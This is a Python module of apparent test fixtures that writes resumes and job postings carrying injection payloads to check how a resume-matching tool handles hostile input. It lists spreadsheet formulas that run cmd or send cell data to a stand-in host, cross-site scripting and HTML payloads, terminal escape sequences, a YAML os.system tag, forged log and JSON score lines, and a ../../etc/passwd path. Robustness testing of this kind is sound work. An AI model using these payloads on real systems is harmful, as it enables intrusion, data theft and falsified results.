"""Texts that do something where they are not taken for text, by what they try; and where resumes and jobs hold them."""

import json
import os
from collections.abc import Iterable, Mapping
from pathlib import Path

EVIL = "https://evil.example"
"""Where every payload that calls somebody calls; nobody may ever ask there."""
HIT = "window.hit=1"
"""What every script of a payload does."""

FORMULAS = {
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "spaces": "   =1+1",
    "no-break space": "\u00a0=1+1",
    "zero width": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "joiner": "\u200d=1+1",
    "braille blank": "\u2800=1+1",
    "variation selector": "\ufe0e=1+1",
    "full width equals": "\uff1d1+1",
    "full width plus": "\uff0b1+1",
    "full width minus": "\uff0d1+1",
    "full width at": "\uff20SUM(1+1)",
    "small equals": "\ufe661+1",
    "superscript equals": "\u207c1+1",
    "hebrew plus": "\ufb291+1",
    "minus sign": "\u22121+1",
    "single quote": "'=1+1",
    "double quote": '"=1+1"',
    "quotes and space": "\" '=1+1",
    "array": "{=1+1}",
    "dde": "=cmd|' /C calc'!A0",
    "dde plus": "+cmd|' /C calc'!A0",
    "dde at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde auto": 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    "hyperlink": f'=HYPERLINK("{EVIL}?x="&A1,"open")',
    "web service": f'=WEBSERVICE("{EVIL}?x="&A1)',
    "import": f'=IMPORTXML("{EVIL}","//a")',
    "semicolon": "x;=1+1",
    "semicolon and quote": 'x";=1+1;"',
    "semicolon and blanks": "x; \u2800'=1+1",
    "comma and quotes": 'x","=1+1","y',
    "line and quotes": 'x"\r\n"=1+1',
    "other sheet": "internal:'Method'!A1",
}
PAGES = {
    "script": f"<script>{HIT};alert(1)</script>",
    "end of script": f"</script><script>{HIT};alert(1)</script>",
    "image": f"<img src=x onerror={HIT};alert(1)>",
    "image elsewhere": f"<img src={EVIL}/pixel.png>",
    "svg": f"<svg onload={HIT};alert(1)>",
    "svg script": f"<svg><script href={EVIL}/x.js></script></svg>",
    "frame": f"</td></tr></table><iframe src={EVIL}></iframe>",
    "frame of a script": f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    "style": f"</style><style>@import '{EVIL}/x.css';*{{display:none}}</style>",
    "style url": f'" style="background:url({EVIL}/x.png)',
    "link": f"<link rel=stylesheet href={EVIL}/x.css><base href={EVIL}>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}">',
    "double quote handler": f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    "single quote handler": f"' onpointerover='{HIT}' autofocus onfocus='{HIT}' x='",
    "no quote handler": f"x onfocus={HIT} autofocus tabindex=0",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;&#60;img src=x onerror={HIT}&#62;",
    "javascript link": f'<a href="javascript:{HIT}">x</a>',
    "javascript": f"javascript:{HIT}//",
    "data link": f"data:text/html,<script>{HIT}</script>",
    "template": "{{ 7 * 7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
    "comment": f"<!--><script>{HIT}</script>-->",
    "end of comment": f"--><img src=x onerror={HIT}><!--",
    "end of cdata": f"]]><script>{HIT}</script>",
    "form": f"<form action={EVIL}><input name=q autofocus onfocus={HIT}><button>go</button></form>",
    "title": f"</title></h1><script>{HIT}</script>",
    "markdown link": f"[open](javascript:{HIT}) ![x]({EVIL}/x.png)",
}
TERMINALS = {
    "colour": "\x1b[5;7;41mloud\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "link": f"\x1b]8;;{EVIL}\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "window title": "\x1b]0;owned\x07",
    "device control": "\x1bP$q q\x1b\\",
    "report": "\x1b[6n\x1b[c",
    "reset": "\x1bc",
    "c1": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "bell and backspace": "over\x07\x08\x08\x08\x7f",
    "overwritten line": "good\rbad",
    "right to left": "resume\u202efdp.exe",
    "isolates": "a\u2066b\u2069c\u2067d\u2069",
    "tags": "a\U000e0068\U000e0069",
    "markup": "[blink red]loud[/]",
    "markup link": f"[link={EVIL}]click[/link]",
    "emoji code": ":skull:",
}
WRITERS = {
    "format": "%s%s%n {0} {0.__class__} $HOME `id` $(id)",
    "forged line": '\n2026-11-01 12:00:00 INFO {"event": "run_ended", "exit_code": 0}',
    "json breaker": '"}],"score":100,"x":[{"y":"',
    "yaml tag": "!!python/object/apply:os.system ['id']",
    "yaml anchor": "&a [*a, *a]",
    "yaml document": "--- # x: {y: [",
    "line separators": "a\u2028b\u2029c\u0085d\x0be\x0cf\x1cg",
    "null": "a\x00b",
    "lone surrogate": "a\ud800b",
    "lone low surrogate": "a\udce9b",
    "no characters": "a\ufffe\uffffb",
    "path": "../../etc/passwd",
}
PAYLOADS: Mapping[str, str] = FORMULAS | PAGES | TERMINALS | WRITERS
"""All of them, by what they try."""

_PLACES = """{0}
Ada {0} Okafor
{0}@example.org

Experience
Engineer {0}, {0}
Jan 2020 - Present
- Built services in Python {0} for everybody
- {0} wrote Python and Docker

Skills
Python, {0}, Docker
"""


def write_folder(folder: Path) -> None:
    """Write each payload as a text, as a JSON Resume and as no document; names hold it where they can."""
    for number, payload in enumerate(PAYLOADS.values()):
        inside = folder / f"{number:03}"
        inside.mkdir()
        name = _file_name(payload)
        (inside / f"{name}.txt").write_text(
            _PLACES.format(payload), encoding="utf-8", errors="replace", newline=""
        )
        (inside / f"{name}.bin").write_bytes(bytes(range(256)) + number.to_bytes(2, "big"))
        (inside / "resume.json").write_text(json.dumps(_json_resume(payload)), encoding="ascii")


def short_job() -> str:
    """Write a job with a payload in its title, and few requirements, as everybody is held against each."""
    chosen = (
        "end of script",
        "hyperlink",
        "clipboard",
        "right to left",
        "markup link",
        "forged line",
    )
    return _job(PAYLOADS["title"], [PAYLOADS[what] for what in chosen])


def long_job() -> str:
    """Write a job whose requirements hold every payload."""
    return _job(PAYLOADS["link"], PAYLOADS.values())


def _job(title: str, payloads: Iterable[str]) -> str:
    rows = "".join(f"- Python {payload}\n- {payload} Docker\n" for payload in payloads)
    return f"Engineer {title}\n\nRequirements:\n{rows}"


def _file_name(payload: str) -> str:
    """Return a name of at most 200 bytes that the system takes."""
    allowed = payload.replace("/", "\u2215").replace("\0", "").replace("\ud800", "")
    return os.fsdecode(os.fsencode(allowed)[:200]).lstrip(".")


def _json_resume(payload: str) -> dict[str, object]:
    work = {"name": payload, "position": f"Engineer {payload}", "startDate": "2020-01"}
    return {
        "basics": {"name": payload, "email": f"{payload}@example.org", "label": payload},
        "work": [{**work, "highlights": [f"Built services in Python {payload}", payload]}],
        "skills": [{"name": payload, "keywords": ["Python", payload]}],
    }
